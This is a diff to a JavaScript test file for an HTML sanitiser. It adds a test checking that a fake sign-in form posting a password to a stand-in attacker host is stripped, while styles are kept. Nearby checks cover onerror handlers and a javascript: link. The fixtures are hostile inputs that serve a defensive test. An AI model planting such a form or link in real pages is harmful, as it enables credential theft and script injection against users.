@@ -33,6 +33,12 @@ describe('sanitising', () => {
     expect(html).not.toContain('onerror');
     expect(html).toContain('<p>hi</p>');
   });
+  it('drops forms and form controls (a fake sign-in posting elsewhere), keeps the admin\u2019s styles', () => {
+    const html = sanitizeHtml('<form action="https://evil.example/steal"><input name="password"><button>Sign in</button></form><style>.x{color:red}</style><p style="color:red">ok</p>');
+    expect(html).not.toMatch(/<form|<input|<button|evil\.example/);
+    expect(html).toContain('<style>');
+    expect(html).toContain('<p style="color:red">ok</p>');
+  });
   it('strips javascript: links in Markdown', () => {
     expect(renderMarkdown('[x](javascript:alert(1))')).not.toContain('javascript:');
   });
